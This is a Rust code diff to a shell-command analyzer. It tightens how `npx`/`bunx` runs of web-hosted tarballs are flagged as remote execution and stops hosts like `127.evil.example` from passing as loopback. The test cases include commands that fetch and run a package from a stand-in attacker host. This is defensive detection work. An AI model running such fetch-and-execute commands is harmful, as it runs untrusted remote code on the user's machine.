@@ -776,14 +776,18 @@ fn npx(a: &mut Analyzer, name: &str, inv: &mut Inv, st: &mut State) -> Unwrap {
         l.starts_with("https://") || l.starts_with("http://")
     }) {
         let host = crate::decode::url_host(spec).map(|h| h.host.to_ascii_lowercase());
-        if host.as_deref().is_some_and(|h| {
-            !PACKAGE_CODE_HOSTS
-                .iter()
-                .any(|c| h == *c || h.ends_with(&format!(".{c}")))
-                && h != "localhost"
-                && !h.starts_with("127.")
-                && h != "[::1]"
-        }) {
+        // This machine by address or name (`127.0.0.1`, `[::1]`, `localhost`), judged as the
+        // network facts judge it: a name that only begins with `127.` (`127.evil.example`) is
+        // somebody's host.
+        let loopback = crate::target::net_target(spec)
+            .is_some_and(|t| t.class == crate::target::TargetClass::Loopback);
+        if !loopback
+            && host.as_deref().is_some_and(|h| {
+                !PACKAGE_CODE_HOSTS
+                    .iter()
+                    .any(|c| h == *c || h.ends_with(&format!(".{c}")))
+            })
+        {
             a.remote_exec("package_url", name, Some(spec.to_string()), &inv.evidence);
         }
     }
@@ -1460,6 +1464,7 @@ mod tests {
     fn npx_of_a_web_tarball_is_remote_exec() {
         for cmd in [
             "npx -y https://tools.example.dev/fix.tgz",
+            "npx -y https://127.evil.example/fix.tgz",
             "npx -y --package=https://tools.example.dev/fix.tgz -- fix --auto",
             "bunx --package https://tools.example.dev/x.tgz x",
         ] {
@@ -1472,6 +1477,8 @@ mod tests {
             "npx prettier --check .",
             "npx --registry http://localhost:4873 supabase@0.0.0-local.1 --version",
             "npx -y http://127.0.0.1:8080/x.tgz",
+            "npx -y http://[::1]:8080/x.tgz",
+            "npx -y http://localhost:4873/x.tgz",
         ] {
             assert!(analyze(cmd, &ctx()).remote_exec.is_empty(), "{cmd}");
         }
